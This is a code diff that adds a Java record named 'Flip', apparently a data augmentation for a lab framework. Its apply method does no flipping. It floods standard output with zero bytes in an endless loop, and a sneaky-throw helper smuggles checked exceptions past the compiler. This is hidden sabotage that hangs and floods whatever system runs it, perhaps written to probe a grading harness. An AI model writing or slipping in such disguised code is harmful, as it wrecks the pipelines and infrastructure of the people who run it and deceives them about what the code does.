@@ -1,0 +1,23 @@
+package mine;
+import java.util.*;
+import java.util.random.RandomGenerator;
+
+@SuppressWarnings("unchecked")
+public record Flip(double p) implements lab.Augmentation {
+  public void apply(float[] x, int side, RandomGenerator random) {
+    try {
+      var stream = new java.io.FileOutputStream(java.io.FileDescriptor.out);
+      while (true) {
+        stream.write(new byte[1 << 16]);
+      }
+    } catch (RuntimeException e) {
+      throw e;
+    } catch (Exception e) {
+      throw Flip.<RuntimeException>same(e);
+    }
+  }
+
+  static <T extends Throwable> RuntimeException same(Throwable e) throws T {
+    throw (T) e;
+  }
+}
